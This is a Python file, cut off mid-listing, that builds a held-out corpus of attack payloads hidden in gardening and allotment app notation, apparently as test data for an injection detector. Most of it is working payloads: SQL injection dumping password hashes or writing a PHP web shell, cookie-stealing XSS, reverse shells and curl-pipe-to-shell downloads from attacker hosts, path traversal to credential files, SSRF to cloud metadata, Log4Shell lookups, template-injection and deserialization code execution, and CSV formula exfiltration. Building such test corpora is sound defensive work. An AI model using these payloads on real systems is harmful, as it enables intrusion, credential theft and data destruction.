"""Attack held-out corpus for the gardening / allotment community app.

Each value is a working payload for a vulnerable app that places the field
where its class says (SQL string/numeric context, shell line, file path,
fetched URL, server-side template, unescaped HTML, log line / header, LDAP
filter / XPath ...), mostly hidden in gardening notation: cultivar names,
bed coordinates, soil tests, irrigation programs, seed swap listings.
Hand-written literals plus small encoding templates over hand-written pools.
Standard library only, deterministic.
"""
import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 9502
PREFIX = "ha95"

# (class, value) -- hand-written literals per category
LITERALS = {
    "sqli": [
        ("search-union", "San Marzano' UNION SELECT username, password_hash, NULL FROM members-- "),
        ("search-union", "tomato%' UNION ALL SELECT table_name, column_name FROM information_schema.columns#"),
        ("cultivar-tautology", "Gardener's Delight' OR '1'='1"),
        ("cultivar-tautology", "Bull's Blood' OR 2>1-- -"),
        ("plot-numeric-tautology", "14 OR 1=1"),
        ("plot-numeric-union", "14 UNION SELECT plot_no, holder_email, phone FROM plot_holders"),
        ("bed-time-blind", "A1'; SELECT pg_sleep(7)--"),
        ("bed-time-blind", "B3' AND SLEEP(6) AND 'x'='x"),
        ("soiltest-time-blind", "6.5 AND (SELECT 1 FROM (SELECT SLEEP(5))q)"),
        ("soiltest-stacked", "6.5); DROP TABLE soil_tests;--"),
        ("seedswap-stacked", "Cherokee Purple'); DELETE FROM listings WHERE ('1'='1"),
        ("seedswap-stacked", "Blue Lake'; UPDATE members SET role='admin' WHERE email='me@attacker.example';--"),
        ("search-boolean-blind", "kale' AND SUBSTRING((SELECT password_hash FROM members WHERE id=1),1,1)='$'-- "),
        ("search-boolean-blind", "leek' AND ASCII(SUBSTR((SELECT version()),1,1))>52 AND 'a'='a"),
        ("sort-orderby", "sow_date, (CASE WHEN (SELECT COUNT(*) FROM admins)>0 THEN plot_no ELSE harvest_kg END)"),
        ("sort-orderby", "name ASC, (SELECT 1 FROM pg_sleep(4))"),
        ("sort-orderby", "3 DESC, IF((SELECT user()) LIKE 'root%', SLEEP(5), 0)"),
        ("filter-error", "Solanum' AND extractvalue(1, concat(0x7e, (SELECT database())))-- "),
        ("filter-error", "Allium' AND 1=CAST((SELECT string_agg(email, ',') FROM members) AS int)--"),
        ("filter-error", "pea' AND updatexml(null, concat(0x3a, (SELECT @@version)), null)-- -"),
        ("login-tautology", "committee@allotments.example'-- "),
        ("login-tautology", "' OR role = 'admin' LIMIT 1 -- "),
        ("note-stacked-mssql", "Sown 12/03'; EXEC xp_cmdshell 'ping -n 3 203.0.113.9';--"),
        ("note-oob-mssql", "tray 4'; EXEC master..xp_dirtree '\\\\lookup.attacker.example\\share';--"),
        ("note-oob-oracle", "frost' || (SELECT UTL_INADDR.get_host_address((SELECT user FROM dual)||'.attacker.example') FROM dual) || '"),
        ("harvest-numeric-union", "3.2 UNION SELECT 1, group_concat(email SEPARATOR ';'), 3 FROM members"),
        ("harvest-numeric-subquery", "(SELECT CASE WHEN (1=1) THEN 3 ELSE 1/0 END)"),
        ("companion-union", "basil') UNION SELECT key, value FROM app_settings WHERE ('a'='a"),
        ("plotmap-coord-union", "(4,7)) UNION SELECT id, api_token FROM integrations--"),
        ("rain-numeric-time", "23 AND 4410=(SELECT 4410 FROM PG_SLEEP(6))"),
        ("pest-search-sqlite", "slugs' UNION SELECT name, sql FROM sqlite_master--"),
        ("pest-search-sqlite", "aphid' AND randomblob(500000000) AND 'q'='q"),
        ("tag-like-wildcard", "%' AND 1=0 UNION SELECT NULL, pg_read_file('/etc/passwd')--"),
        ("variety-file-write", "Sungold' INTO OUTFILE '/var/www/html/seed.php' LINES TERMINATED BY '<?php system($_GET[c]); ?>'-- "),
        ("variety-file-read", "x' UNION SELECT LOAD_FILE('/etc/passwd'), 2-- "),
        ("weather-stacked-pg", "Frost -3°C'; COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.7/p|sh';--"),
        ("swap-insert-subquery", "Runner bean', (SELECT password_hash FROM members WHERE role='admin'))-- "),
        ("irrigation-numeric-stacked", "15; INSERT INTO members(email, role) VALUES ('x@attacker.example','admin')"),
        ("search-second-order", "Jo's plot'||(SELECT api_key FROM members WHERE id=1)||'"),
        ("cultivar-union+hex-literal", "0 UNION SELECT 0x61646d696e, 0x6869"),
        ("search-union+comment-space", "tomato'/**/UNION/**/SELECT/**/email,password_hash/**/FROM/**/members#"),
        ("search-union+case-mix", "bean' uNiOn SeLeCt NULL, passwd FROM users-- -"),
        ("filter-json-operator", "x' OR data->>'role'='admin"),
        ("filter-having", "1 GROUP BY plot_no HAVING 1=1--"),
        ("soil-boolean-blind", "6.5 AND (SELECT COUNT(*) FROM members WHERE email LIKE 'a%')>0"),
        ("plot-limit-injection", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,VERSION())),1)"),
        ("calendar-date-injection", "2025-03-01' AND 1=(SELECT 1 FROM members WHERE id=1 AND email LIKE '%@%')--"),
        ("bed-union+versioned-comment", "C3'/*!50000UNION*//*!50000SELECT*/ 1,2,3-- "),
        ("note-oracle-union", "mulch' UNION SELECT username, password FROM all_users WHERE ROWNUM=1--"),
        ("note-oracle-time", "bark' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',6)-- "),
        ("ph-cast-error", "6.5' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"),
        ("ph-mssql-time", "7.0'; WAITFOR DELAY '0:0:6'--"),
        ("tray-multiline", "Tray 3 notes:\nchillies up\n'; DROP TABLE seed_trays; --"),
        ("photo-caption", "Marrow 14 kg 🎃' AND (SELECT 1 FROM pg_sleep(5)) IS NULL AND 'a'='a"),
        ("rota-name-union", "Priya' UNION SELECT phone, address FROM members WHERE '1'='1"),
        ("swap-where-tautology", "'Lazy Housewife' OR 1=1 OR name='"),
        ("search-backslash-escape", "bean\\' OR 1=1-- "),
        ("search-sqlite-load", "x'; SELECT load_extension('/tmp/evil.so');--"),
        ("report-pg-lo", "soil'; SELECT lo_import('/etc/passwd');--"),
        ("search-mysql-benchmark", "courgette' AND BENCHMARK(20000000, SHA1('kale'))-- "),
        ("sort-column-subquery", "(SELECT password_hash FROM members LIMIT 1)"),
        ("plot-in-list", "12) OR (1=1"),
        ("json-filter-sqli", "{\"crop\": \"leek' OR '1'='1\"}"),
        ("csv-import-sqli", "Garlic,Solent Wight,2024'),('x','y',(SELECT string_agg(password_hash,'|') FROM members))--"),
        ("plain-tautology", "' OR 1=1 --"),
        ("plain-union", "' UNION SELECT null, null, version() --"),
        ("plain-time", "1' AND SLEEP(5)#"),
        ("plain-comment", "admin'--"),
        ("plain-numeric", "1 OR 1=1"),
        ("plain-empty-string", "' OR ''='"),
        ("plain-stacked", "1; DROP TABLE users"),
        ("plain-paren", "') OR ('1'='1"),
    ],
    "xss": [
        ("note-html-script", "Blight on the 'Sungold' <script>fetch('//attacker.example/c?'+document.cookie)</script>"),
        ("cultivar-html-img", "Tomato 'Black Krim' <img src=x onerror=alert(document.domain)>"),
        ("comment-html-svg", "Lovely robin today 🐦 <svg onload=alert(1)>"),
        ("title-html-details", "Seed swap Sat <details open ontoggle=\"location='//attacker.example/?'+document.cookie\">"),
        ("post-html-iframe", "Jam session recipes: <iframe src=\"javascript:alert(origin)\"></iframe>"),
        ("plantname-attr-breakout", "Rosa \"Gertrude\" onmouseover=\"alert(1)\" x=\""),
        ("plantname-attr-breakout", "Dahlia' autofocus onfocus='alert(document.cookie)' '"),
        ("bed-label-attr", "A1\" style=\"position:fixed;inset:0\" onclick=\"alert(1)"),
        ("link-href-javascript", "javascript:alert(document.cookie)//https://seeds.example/packet"),
        ("link-href-javascript+case-mix", "JaVaScRiPt:fetch('https://attacker.example/k?'+localStorage.token)"),
        ("link-href-data+base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
        ("js-string-breakout", "Cœur de Bœuf';alert(document.domain);//"),
        ("js-string-breakout", "Scarlet Emperor\\';alert(1)//"),
        ("js-template-breakout", "Nantes ${alert(document.cookie)}"),
        ("script-block-breakout", "Kelvedon Wonder</script><script>alert(1)</script>"),
        ("textarea-breakout", "watering notes</textarea><img src=1 onerror=alert(2)>"),
        ("title-breakout", "Plot 14B</title><svg/onload=alert(3)>"),
        ("markdown-link", "See my [planting plan](javascript:alert('plot'))"),
        ("markdown-image", "![tomato photo](x\" onerror=\"alert(1))"),
        ("svg-upload", "<svg xmlns=\"http://www.w3.org/2000/svg\"><circle r=\"40\" fill=\"green\"/><script>alert(document.domain)</script></svg>"),
        ("comment-html-body", "Harvest photos <body onpageshow=alert(1)>"),
        ("comment-html-input", "Rain 23 mm <input autofocus onfocus=alert(1)>"),
        ("comment-html-video", "Timelapse of the beans <video><source onerror=\"alert(1)\"></video>"),
        ("comment-html-audio", "Dawn chorus <audio src=nope onerror=alert`1`>"),
        ("post-html-object", "<object data=\"javascript:alert(1)\">Seed library</object>"),
        ("post-html-embed", "Companion chart <embed src=\"//attacker.example/x.svg\">"),
        ("post-html-form", "Vote for best plot <form action=\"https://attacker.example/steal\"><input name=password placeholder=\"Re-enter password\"><button>Vote</button></form>"),
        ("post-html-meta", "Open day <meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
        ("post-html-base", "<base href=\"https://attacker.example/\">Harvest log"),
        ("post-html-math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
        ("post-html-noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
        ("post-html-style", "<style>@import 'https://attacker.example/x.css';</style>Leaf mould recipe"),
        ("post-html-link", "<link rel=stylesheet href=\"//attacker.example/steal.css\">"),
        ("weather-html-marquee", "Gale tonight <marquee onstart=alert(1)>tie the poles</marquee>"),
        ("weather-html-select", "Frost -3 <select autofocus onfocus=alert(1)></select>"),
        ("swap-html-anchor", "OFFER: 'Czar' beans <a href=\"javascript:void(document.location='//attacker.example/?c='+document.cookie)\">click to claim</a>"),
        ("swap-html-svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
        ("swap-html-svg-a", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Free rhubarb</text></a></svg>"),
        ("dom-hash", "#<img src=x onerror=alert(location.hash)>"),
        ("angular-template", "Three sisters {{constructor.constructor('alert(1)')()}}"),
        ("vue-template", "Plot map {{_c.constructor('alert(document.cookie)')()}}"),
        ("react-dangerous-href", "javascript://%0aalert(document.cookie)"),
        ("json-in-script", "</script><script>alert(document.domain)</script>"),
        ("attr-unquoted", "leek onmouseover=alert(1)"),
        ("event-pointer", "<div onpointerenter=alert(1) style=\"height:100vh\">Bed C3 map</div>"),
        ("iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>"),
        ("attr-javascript+html-entities", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">planting guide</a>"),
        ("attr-javascript+named-entity", "<a href=\"java&Tab;script:alert(1)\">sowing calendar</a>"),
        ("css-expression", "<div style=\"background:url(javascript:alert(1))\">Soil pH 6.5</div>"),
        ("svg-use", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>"),
        ("filename-html", "tomato_<img src=x onerror=alert(1)>.jpg"),
        ("multiline-post", "Hello all,\nhere's my tomato photo:\n<img src=\"tom.jpg\"\nonerror=\"alert(document.cookie)\">\nThanks!"),
        ("csv-html-cell", "Courgette,\"<script src=//attacker.example/x.js></script>\",2024"),
        ("xml-cdata", "<![CDATA[<script>alert(1)</script>]]>"),
        ("post-html-keygen", "<keygen autofocus onfocus=alert(1)>"),
        ("post-html-isindex", "<button formaction=javascript:alert(1)>Reserve plot</button>"),
        ("post-html-frameset", "<frameset onload=alert(1)>"),
        ("username-html", "Marek<script src=https://attacker.example/hook.js></script>"),
        ("post-html-polyglot", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"),
        ("plain-script", "<script>alert(1)</script>"),
        ("plain-img", "<img src=x onerror=alert(1)>"),
        ("plain-svg", "<svg/onload=alert(document.domain)>"),
        ("plain-attr-breakout", "\"><script>alert(1)</script>"),
        ("plain-body", "<body onload=alert(1)>"),
        ("plain-iframe", "<iframe src=javascript:alert(1)>"),
        ("plain-single-quote-breakout", "'><img src=x onerror=prompt(1)>"),
    ],
    "cmdi": [
        ("irrigation-semicolon", "Zone 2; curl -s http://203.0.113.5/x.sh | sh"),
        ("irrigation-pipe", "06:00 | nc 198.51.100.4 4444 -e /bin/sh"),
        ("irrigation-and", "15 && wget -qO- http://attacker.example/b | bash"),
        ("irrigation-or", "BedA_valve || id > /tmp/pwn"),
        ("controller-backtick", "GH`id`"),
        ("controller-subshell", "ORCHARD$(cat /etc/passwd)"),
        ("controller-newline", "BEDS_N\nuname -a"),
        ("photo-filename", "marrow.jpg; rm -rf /var/www/uploads/*"),
        ("photo-filename", "bean$(curl attacker.example/$(whoami)).png"),
        ("photo-convert-args", "tomato.png -write /var/www/html/shell.php"),
        ("ping-host", "weather.local; cat /etc/shadow"),
        ("ping-host", "127.0.0.1 && bash -c 'bash -i >& /dev/tcp/203.0.113.9/9001 0>&1'"),
        ("export-name", "harvest_2025.csv`sleep 8`"),
        ("export-name", "plotmap-$(sleep 7).pdf"),
        ("sensor-id", "probe-3|busybox nc 198.51.100.2 80 -e sh"),
        ("sensor-id", "probe-4%0aid"),
        ("soiltest-ifs", "6.5;cat${IFS}/etc/passwd"),
        ("soiltest-brace", "7.0;{cat,/etc/passwd}"),
        ("zip-name", "photos.zip; python3 -c 'import os;os.system(\"id\")'"),
        ("dns-lookup", "allotments.example; nslookup $(hostname).attacker.example"),
        ("git-arg-injection", "--upload-pack=touch /tmp/x"),
        ("tar-arg-injection", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/p.sh"),
        ("find-arg-injection", "seeds -exec id ;"),
        ("curl-arg-injection", "-o /var/www/html/s.php http://attacker.example/s.txt"),
        ("ssh-arg-injection", "-oProxyCommand=sh -c 'id>/tmp/o' plot@host"),
        ("sed-script", "s/tomato/x/e;id"),
        ("wildcard-glob", "/???/??t /???/p??s??"),
        ("quote-concat", "c''at /e\"t\"c/pa''sswd"),
        ("var-concat", "a=ca;b=t;$a$b /etc/passwd"),
        ("base64-exec", "Zone1;echo Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94fHNo|base64 -d|sh"),
        ("hex-printf", "B3;$(printf '\\x69\\x64')"),
        ("windows-amp", "plot14 & type C:\\Windows\\win.ini"),
        ("windows-pipe", "rain | powershell -nop -c \"iwr http://203.0.113.8/a.ps1|iex\""),
        ("windows-caret", "tomato & w^h^o^a^m^i"),
        ("windows-var-substr", "bed & %COMSPEC:~0,1%%COMSPEC:~-3% /c dir"),
        ("cron-note", "Water at 6am\n* * * * * root curl attacker.example/c|sh"),
        ("backup-label", "backup_$(date +%F)$(id>/tmp/x)"),
        ("label-printer", "Solanum 'San Marzano'\" ; lp -d x /etc/passwd ; echo \""),
        ("label-printer", "Beta 'Bull\\'s Blood'`nc -e /bin/sh 203.0.113.3 443`"),
        ("weather-city", "Bristol$(wget -q -O /tmp/a http://198.51.100.7/a;sh /tmp/a)"),
        ("gps-coord", "51.4532,-2.5879;id"),
        ("timezone", "Europe/London;ls -la /root"),
        ("locale", "en_GB.UTF-8 && env"),
        ("perl-open", "|/usr/bin/id|"),
        ("ruby-open", "|curl attacker.example|sh"),
        ("python-shell-true", "tomato'; import os; os.system('id'); '"),
        ("ffmpeg-timelapse", "beans.mp4 -f lavfi -i \"movie=/etc/passwd\""),
        ("ping-count", "3 -c 1 198.51.100.1; id"),
        ("imagemagick-label", "label:@/etc/passwd"),
        ("process-sub", "<(curl -s attacker.example/x)"),
        ("redirect-write", "notes > /var/www/html/index.html"),
        ("heredoc", "bed\ncat <<EOF > /tmp/k\nssh-rsa AAAAfakekey attacker\nEOF"),
        ("nested-subshell", "$( $(echo 'i')$(echo 'd') )"),
        ("dollar-brace-ifs", "kale;${PATH:0:1}bin${PATH:0:1}sh -c id"),
        ("tab-separator", "leek;\tid"),
        ("crontab-plot", "plot 14 $(crontab -l | { cat; echo '*/5 * * * * sh -c \"id\"'; } | crontab -)"),
        ("mail-recipient", "plot-holder@allotments.example -X/var/www/html/x.php"),
        ("zip-password", "pass' ; touch /tmp/zipped ; '"),
        ("plain-semicolon", "; id"),
        ("plain-pipe", "| cat /etc/passwd"),
        ("plain-backtick", "`whoami`"),
        ("plain-and", "&& id"),
        ("plain-subshell", "$(id)"),
        ("plain-sleep", "; sleep 10"),
        ("plain-or", "|| whoami"),
    ],
    "traversal": [
        ("photo-path-dotdot", "../../../../etc/passwd"),
        ("photo-path-dotdot", "plots/14B/../../../../etc/shadow"),
        ("photo-path-dotdot", "uploads/seed-swap/../../config/database.yml"),
        ("export-path", "../../../../var/www/app/.env"),
        ("export-path", "harvest/2025/../../../../proc/self/environ"),
        ("template-name", "../../../../../etc/hosts"),
        ("template-name", "calendar/../../../app/settings.py"),
        ("attachment-absolute", "/etc/passwd"),
        ("attachment-absolute", "/proc/self/cmdline"),
        ("attachment-absolute-win", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
        ("attachment-backslash", "..\\..\\..\\..\\windows\\win.ini"),
        ("attachment-mixed-slash", "..\\../..\\../etc/passwd"),
        ("photo-nested-bypass", "....//....//....//etc/passwd"),
        ("photo-nested-bypass", "..././..././..././etc/group"),
        ("photo-nullbyte+urlenc", "../../../../etc/passwd%00.jpg"),
        ("photo-nullbyte", "../../../../etc/passwd\u0000.png"),
        ("plotmap-svg-path", "maps/../../../../root/.ssh/id_rsa"),
        ("plotmap-svg-path", "maps/../../../../home/app/.bash_history"),
        ("lang-file", "../../../../usr/share/nginx/html/../../../../etc/nginx/nginx.conf"),
        ("lang-file", "fr/../../../../../var/log/nginx/access.log"),
        ("zip-slip", "../../../../var/www/html/plotmap.php"),
        ("zip-slip", "photos/../../../../home/app/.ssh/authorized_keys"),
        ("file-uri", "file:///etc/passwd"),
        ("file-uri", "file:///C:/Windows/win.ini"),
        ("php-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
        ("php-wrapper", "php://filter/read=string.rot13/resource=index.php"),
        ("unc-path", "\\\\198.51.100.20\\share\\seed.jpg"),
        ("win-dos-device", "..\\..\\..\\..\\boot.ini"),
        ("win-trailing-dot", "../../../../web.config...."),
        ("spring-classpath", "classpath:../../WEB-INF/web.xml"),
        ("java-webinf", "/..;/WEB-INF/web.xml"),
        ("java-webinf", "static/..;/..;/WEB-INF/classes/application.properties"),
        ("tomcat-semicolon", "images/..;/manager/html"),
        ("git-config", "../../.git/config"),
        ("docker-secret", "../../../../run/secrets/db_password"),
        ("k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
        ("proc-fd", "/proc/self/fd/3"),
        ("cloud-creds", "../../../../root/.aws/credentials"),
        ("python-source", "../../../../app/__pycache__/../config.py"),
        ("dotdot-long", "tomatoes/" + "../" * 12 + "etc/passwd"),
        ("plain-dotdot", "../../../etc/passwd"),
        ("plain-dotdot-win", "..\\..\\..\\boot.ini"),
        ("plain-dotdot-deep", "../../../../../../../../etc/hosts"),
        ("plain-dotdot-win-ini", "../../../../../../windows/win.ini"),
    ],
    "ssrf": [
        ("webhook-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ("webhook-metadata", "http://169.254.169.254/latest/user-data"),
        ("webhook-metadata-gcp", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
        ("webhook-metadata-azure", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
        ("webhook-metadata-alibaba", "http://100.100.100.200/latest/meta-data/"),
        ("photo-url-localhost", "http://localhost:8080/admin/users"),
        ("photo-url-localhost", "http://127.0.0.1:6379/"),
        ("photo-url-localhost", "http://127.0.0.1:9200/_cat/indices"),
        ("photo-url-internal", "http://10.0.0.5:2375/containers/json"),
        ("photo-url-internal", "http://192.168.1.1/cgi-bin/config.exp"),
        ("photo-url-internal", "http://172.17.0.1:8500/v1/kv/?recurse"),
        ("weather-feed-ipv6", "http://[::1]:8000/internal/metrics"),
        ("weather-feed-ipv6", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
        ("weather-feed-zero", "http://0.0.0.0:5000/debug"),
        ("weather-feed-zero", "http://0/"),
        ("seed-catalogue-userinfo", "https://seeds.example@127.0.0.1/admin"),
        ("seed-catalogue-userinfo", "http://allotments.example:80@169.254.169.254/latest/meta-data/"),
        ("seed-catalogue-fragment", "http://127.0.0.1:8080#@seeds.example/catalogue.csv"),
        ("ical-url-gopher", "gopher://127.0.0.1:6379/_SET%20x%20%22pwn%22%0D%0ASAVE%0D%0A"),
        ("ical-url-gopher", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM:<a@attacker.example>%0D%0A"),
        ("ical-url-dict", "dict://127.0.0.1:11211/stats"),
        ("ical-url-file", "file:///proc/self/environ"),
        ("ical-url-ftp", "ftp://10.0.0.12/backups/members.sql"),
        ("ical-url-ldap", "ldap://127.0.0.1:389/dc=allotments,dc=example"),
        ("webhook-rebinding", "http://7f000001.c0a80001.rbndr.us:8080/"),
        ("webhook-wildcard-dns", "http://169.254.169.254.nip.io/latest/meta-data/"),
        ("webhook-redirector", "https://attacker.example/302?to=http://169.254.169.254/latest/meta-data/"),
        ("webhook-internal-host", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
        ("webhook-internal-host", "http://admin.internal/reset?user=committee"),
        ("importer-jar", "jar:http://127.0.0.1:8080/app.jar!/META-INF/MANIFEST.MF"),
        ("importer-netdoc", "netdoc:///etc/passwd"),
        ("rss-url-docker", "http://unix:/var/run/docker.sock:/containers/json"),
        ("photo-url-short", "http://127.1/admin"),
        ("photo-url-port-scan", "http://10.0.0.7:22/"),
        ("photo-url-trailing-dot", "http://localhost./server-status"),
        ("photo-url-ecs", "http://169.254.170.2/v2/credentials/"),
        ("photo-url-oracle", "http://192.0.0.192/latest/meta-data/"),
        ("photo-url-backslash", "http://seeds.example\\@127.0.0.1/"),
        ("plain-metadata", "http://169.254.169.254/"),
        ("plain-localhost", "http://localhost/"),
        ("plain-loopback-port", "http://127.0.0.1:22/"),
        ("plain-ipv6-loopback", "http://[::1]/"),
    ],
    "code": [
        ("template-jinja", "Dear {{ member.name }}, {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("template-jinja", "Harvest {{ config.items() }}"),
        ("template-jinja", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
        ("template-jinja", "Plot {{ lipsum.__globals__['os'].popen('uname -a').read() }}"),
        ("template-jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        ("template-jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
        ("template-jinja-attr", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
        ("template-mako", "Sowing reminder ${__import__('os').popen('id').read()}"),
        ("template-mako", "<% import os; x=os.popen('whoami').read() %>${x}"),
        ("template-twig", "{{ ['id']|filter('system') }}"),
        ("template-twig", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
        ("template-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
        ("template-velocity", "#set($rt=$class.inspect(\"java.lang.Runtime\").type.getRuntime())$rt.exec(\"id\")"),
        ("template-erb", "Bed A1 <%= `id` %>"),
        ("template-erb", "<%= File.read('/etc/passwd') %>"),
        ("template-smarty", "{system('id')}"),
        ("template-smarty", "{php}echo shell_exec('id');{/php}"),
        ("template-handlebars", "{{#with \"s\" as |string|}}{{#with string.constructor}}{{#with (bind \"return process.mainModule.require('child_process').execSync('id')\")}}{{this}}{{/with}}{{/with}}{{/with}}"),
        ("template-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
        ("template-ejs", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
        ("template-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
        ("el-spring", "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}"),
        ("el-spring", "#{T(java.lang.System).getenv()}"),
        ("el-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
        ("el-jsp", "${pageContext.request.getSession().getServletContext().getRealPath('/')}"),
        ("el-mvel", "Runtime.getRuntime().exec(\"touch /tmp/mvel\")"),
        ("log4shell-lookup", "Tomato 'San Marzano' ${jndi:ldap://203.0.113.10:1389/a}"),
        ("log4shell-lookup", "${jndi:rmi://attacker.example/obj}"),
        ("log4shell-nested", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
        ("log4shell-nested", "${${::-j}${::-n}${::-d}${::-i}:dns://attacker.example/p}"),
        ("log4shell-env", "Frost note ${env:AWS_SECRET_ACCESS_KEY}"),
        ("log4shell-env", "${jndi:ldap://${env:USER}.attacker.example/a}"),
        ("log4shell-sys", "${sys:java.version}${jndi:dns://v.attacker.example}"),
        ("deser-java-b64", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAAeA=="),
        ("deser-python-pickle", "cos\nsystem\n(S'id'\ntR."),
        ("deser-python-pickle-b64", "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
        ("deser-yaml", "!!python/object/apply:os.system [\"id\"]"),
        ("deser-yaml", "crop: !!python/object/apply:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]"),
        ("deser-yaml-snake", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
        ("deser-php", "O:8:\"PlotNote\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
        ("deser-php", "a:1:{i:0;O:15:\"Monolog\\Handler\":1:{s:6:\"stream\";s:20:\"php://filter/resource\";}}"),
        ("deser-dotnet", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList\",\"$values\":[\"cmd\",\"/c calc\"]}}"),
        ("deser-jackson", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}]"),
        ("deser-fastjson", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.11:1099/x\",\"autoCommit\":true}"),
        ("deser-node", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
        ("xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE plot [<!ENTITY f SYSTEM \"file:///etc/passwd\">]><plot><bed>&f;</bed></plot>"),
        ("xxe-ssrf", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><harvest><crop>&m;</crop></harvest>"),
        ("xxe-parameter", "<!DOCTYPE x [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><seed/>"),
        ("xxe-xinclude", "<bed xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></bed>"),
        ("xxe-svg", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text y=\"20\">&h;</text></svg>"),
        ("xxe-billion-laughs", "<!DOCTYPE l [<!ENTITY a \"kale\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]><l>&d;</l>"),
        ("proto-pollution-json", "{\"crop\":\"kale\",\"__proto__\":{\"isAdmin\":true}}"),
        ("proto-pollution-json", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
        ("proto-pollution-query", "__proto__[committee]=true"),
        ("proto-pollution-query", "plot[__proto__][shell]=/proc/self/exe"),
        ("csv-formula", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Soil results\")"),
        ("csv-formula", "=cmd|' /C calc'!A0"),
        ("csv-formula", "+SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A1"),
        ("csv-formula", "@SUM(1+9)*cmd|' /C notepad'!A0"),
        ("csv-formula", "-2+3+cmd|' /C calc'!'A1'"),
        ("csv-formula-import", "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A1:A20),\"//a\")"),
        ("csv-formula-webservice", "=WEBSERVICE(\"https://attacker.example/leak?\"&C4)"),
        ("python-eval", "__import__('os').system('id')"),
        ("python-eval", "6.5 + __import__('subprocess').getoutput('cat /etc/passwd').__len__()"),
        ("node-eval", "require('child_process').execSync('id').toString()"),
        ("node-eval", "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
        ("php-eval", "${system($_GET['c'])}"),
        ("php-eval", "<?php echo shell_exec($_REQUEST['x']); ?>"),
